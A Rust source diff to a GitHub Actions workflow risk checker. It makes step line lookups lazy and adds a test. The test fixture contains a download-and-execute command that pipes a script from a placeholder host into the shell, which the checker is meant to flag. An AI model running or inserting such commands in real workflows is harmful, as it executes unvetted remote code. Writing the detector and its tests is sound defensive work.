@@ -2,6 +2,7 @@
 //! Each check compares base and head and reports only what the head adds:
 //! a risky construct already on base is not the agent's doing.
 
+use std::cell::OnceCell;
 use std::collections::{BTreeMap, BTreeSet, HashMap};
 
 use serde_yaml::Value;
@@ -377,7 +378,7 @@ fn workflow_with(
                 &uses,
                 &base_uses,
                 Some(id),
-                head.line(&[key("jobs"), key(id), key("uses")]),
+                || head.line(&[key("jobs"), key(id), key("uses")]),
                 &mut out,
             );
         }
@@ -470,7 +471,7 @@ pub(crate) fn action(base: Option<&Doc>, head: &Doc) -> Vec<Risk> {
                 &target,
                 &base_uses,
                 None,
-                head.line(&[key("runs"), key("image")]),
+                || head.line(&[key("runs"), key("image")]),
                 &mut out,
             );
         }
@@ -633,7 +634,7 @@ fn step_risks(
                 &uses,
                 base_uses,
                 scope.job,
-                scope.doc.line(&scope.step_path(i, Some("uses"))),
+                || scope.doc.line(&scope.step_path(i, Some("uses"))),
                 out,
             );
             for (input, expr) in code_input_injections(step, scope.taint) {
@@ -658,7 +659,11 @@ fn step_risks(
         let Some(run) = get(step, "run").and_then(scalar) else {
             return;
         };
-        let run_line = scope.doc.line(&scope.step_path(i, Some("run")));
+        // The run's line is asked only of a risk that stays: most steps
+        // have none, and a workflow's first line read parses its positions.
+        let run_line = OnceCell::new();
+        let run_line =
+            || *run_line.get_or_init(|| scope.doc.line(&scope.step_path(i, Some("run"))));
         let env = merge_env(scope.env, &env_of(step));
         let secret_vars: BTreeSet<String> = env
             .iter()
@@ -703,7 +708,10 @@ fn step_risks(
             out.push(
                 Risk::new(what, why, severity)
                     .job(scope.job)
-                    .line(scope.doc.find_text(&needle, run_line).or(run_line))
+                    .line({
+                        let run_line = run_line();
+                        scope.doc.find_text(&needle, run_line).or(run_line)
+                    })
                     .class(class),
             );
         }
@@ -726,7 +734,7 @@ fn step_risks(
                         Severity::High,
                     )
                     .job(scope.job)
-                    .line(run_line),
+                    .line(run_line()),
                 );
             }
         }
@@ -1042,4 +1050,51 @@ fn merge_env(
 
 fn show(v: Option<&Value>) -> String {
     v.and_then(scalar).unwrap_or_else(|| "?".to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const BASE: &str = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo test\n";
+
+    /// Lines are asked only of the risks that stay: a head whose steps add
+    /// none never reads its positions, and one that adds risks gets the
+    /// lines an eager read gives (the `uses:` and `run:` keys' own lines).
+    #[test]
+    fn step_lines_are_read_only_for_risks_that_stay() {
+        let base = Doc::parse(BASE).expect("base");
+        let quiet = Doc::parse(&BASE.replace("cargo test", "cargo test --all")).expect("quiet");
+        assert!(workflow(Some(&base), &quiet).is_empty());
+        assert!(!quiet.positions_read());
+
+        let risky_text = BASE.replace(
+            "      - run: cargo test\n",
+            "      - uses: someone/thing@v1\n      - run: |\n          curl https://x.example/i.sh | sh\n",
+        );
+        let risky = Doc::parse(&risky_text).expect("risky");
+        let risks = workflow(Some(&base), &risky);
+        assert!(risky.positions_read());
+        let line_of = |what: &str| {
+            risks
+                .iter()
+                .find(|r| r.what.contains(what))
+                .unwrap_or_else(|| panic!("no risk naming {what}: {risks:?}"))
+                .line
+        };
+        let eager = Doc::parse(&risky_text).expect("eager");
+        let step = |i: usize, k: &str| {
+            eager.line(&[
+                key("jobs"),
+                key("build"),
+                key("steps"),
+                Seg::Index(i),
+                key(k),
+            ])
+        };
+        assert_eq!(line_of("someone/thing@v1"), step(1, "uses"));
+        assert_eq!(step(1, "uses"), Some(7));
+        assert_eq!(line_of("pipes a download"), Some(9));
+        assert_eq!(step(2, "run"), Some(8));
+    }
 }
